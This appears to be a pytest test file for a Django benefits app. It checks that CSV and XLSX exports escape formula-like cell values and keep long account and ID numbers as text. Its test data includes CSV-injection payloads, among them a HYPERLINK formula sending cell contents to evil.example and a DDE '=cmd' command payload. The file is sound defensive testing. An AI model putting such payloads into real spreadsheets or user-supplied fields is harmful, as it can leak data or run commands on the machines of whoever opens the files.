"""Files a bank or a spreadsheet program can take: no cell a person typed runs as a formula, and account and ID
numbers keep every digit. Each export is read back as a spreadsheet program would read it. Personas: finance
(the payout file), a branch admin (the members list and an import's error report), palace staff (bookings),
a station manager (stations), and the member whose typed text is the attack."""

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from benefits.models import Claim, PayoutBatch
from core.spreadsheets import csv_unneutralise, csv_value, is_formula_like
from tests.benefits.claims_helpers import approved

ATTACKS = ['=HYPERLINK("http://evil.example/?"&A1,"点此")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]
ACCOUNT = "6222020200112233445"  # 19 digits: a number cell keeps 15 significant digits


@pytest.mark.parametrize("text", ATTACKS)
def test_formula_like_text_is_neutralised_and_read_back_unchanged(text):
    assert is_formula_like(text)
    assert csv_value(text) == "'" + text
    assert csv_unneutralise(csv_value(text)) == text


def test_plain_numbers_and_ordinary_text_pass_unchanged():
    for value in ["-12.5", "+86", "张三", "0592-1234567", 900, None]:
        assert not is_formula_like(value)
    assert csv_value(None) == ""
    assert csv_value(ACCOUNT, identifier=True) == f'="{ACCOUNT}"'
    assert csv_value("11010519491231002X", identifier=True) == "11010519491231002X"  # not all digits: text anyway
    assert csv_unneutralise(f'="{ACCOUNT}"') == ACCOUNT


def _csv_rows(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig")
                                       if response.streaming else response.content.decode("utf-8-sig"))))


def _assert_no_live_formula(rows):
    for row in rows:
        for cell in row:
            assert not is_formula_like(cell), cell


@pytest.fixture
def hostile_batch(client, claim_world, django_capture_on_commit_callbacks):
    """The claimant typed a formula as the account holder's name; finance builds the batch."""
    claim = approved(claim_world, django_capture_on_commit_callbacks)
    Claim.objects.filter(pk=claim.pk).update(account_holder=ATTACKS[0], bank_name="@工商银行")
    client.force_login(claim_world.finance)
    client.post(reverse("admin:benefits_payoutbatch_add"), {"branch": claim_world.tree.district_a.pk})
    return PayoutBatch.objects.get()


def test_finance_gets_a_payout_csv_with_no_formula_and_the_whole_account(client, hostile_batch):
    response = client.get(reverse("admin:benefits_payoutbatch_export", args=[hostile_batch.pk, "csv"]))
    rows = _csv_rows(response)
    row = rows[1]
    assert row[1] == "'" + ATTACKS[0] and row[2] == "'@工商银行"
    assert row[3] == f'="{ACCOUNT}"'  # Excel keeps it as text: all 19 digits
    assert row[4] == "900.00"
    _assert_no_live_formula([r[:3] + r[4:] for r in rows])


def test_finance_gets_a_payout_xlsx_with_text_cells_and_a_number_amount(client, hostile_batch):
    response = client.get(reverse("admin:benefits_payoutbatch_export", args=[hostile_batch.pk, "xlsx"]))
    sheet = load_workbook(io.BytesIO(response.content)).active
    holder, account, amount = sheet["B2"], sheet["D2"], sheet["E2"]
    assert holder.value == ATTACKS[0] and holder.data_type == "s"  # shown, never run
    assert account.value == ACCOUNT and account.data_type == "s" and account.number_format == "@"
    assert float(amount.value) == 900.0 and amount.data_type == "n"


def test_another_districts_finance_cannot_download_the_file(client, hostile_batch, staff_of, claim_world):
    client.force_login(staff_of(claim_world.tree.district_b, role="finance"))
    response = client.get(reverse("admin:benefits_payoutbatch_export", args=[hostile_batch.pk, "csv"]))
    assert response.status_code in (302, 403, 404)


def test_a_branch_admin_exports_members_with_names_as_text_and_ids_as_text(client, org_tree, staff_of,
                                                                          member_factory):
    member = member_factory(branch=org_tree.base_a1, name="=cmd|' /C calc'!A0")
    client.force_login(staff_of(org_tree.district_a))
    response = client.get(reverse("members:members-export"))
    body = b"".join(response.streaming_content) if response.streaming else response.content
    sheet = load_workbook(io.BytesIO(body)).active
    row = next(r for r in sheet.iter_rows(min_row=2) if r[2].value == member.id_number)
    assert row[1].value == member.name and row[1].data_type == "s"
    assert row[2].number_format == "@" and row[5].value == member.user.mobile and row[5].number_format == "@"


def test_palace_staff_export_bookings_with_a_visitor_name_neutralised(client, palace):
    from culture import services

    booking = services.booking_create(session_id=palace.session.pk, seats=1, user=palace.member.user)
    booking.__class__.objects.filter(pk=booking.pk).update(name="=1+1")
    client.force_login(palace.manager_a)
    rows = _csv_rows(client.get(reverse("culture:export"), {"format": "csv"}))
    _assert_no_live_formula(rows)
    assert any("'=1+1" in row for row in rows)
    sheet = load_workbook(io.BytesIO(client.get(reverse("culture:export"), {"format": "xlsx"}).content)).active
    cells = [c for row in sheet.iter_rows() for c in row if c.value == "=1+1"]
    assert cells and all(c.data_type == "s" for c in cells)


def test_a_station_managers_export_round_trips_through_the_import(client, org_tree, staff_of):
    from stations.models import Station
    from tests.stations.factories import StationFactory

    StationFactory(branch=org_tree.district_a, name="+驿站", address="=HYPERLINK(1)", code="S-1")
    manager = staff_of(org_tree.district_a, role="station_manager")
    client.force_login(manager)
    chosen = list(Station.objects.values_list("pk", flat=True))
    response = client.post(reverse("admin:stations_station_changelist"),
                           {"action": "export_csv", "_selected_action": chosen})
    rows = _csv_rows(response)
    _assert_no_live_formula(rows)
    assert "'+驿站" in rows[1] and "'=HYPERLINK(1)" in rows[1]
    assert [csv_unneutralise(c) for c in rows[1]][2] == "+驿站"
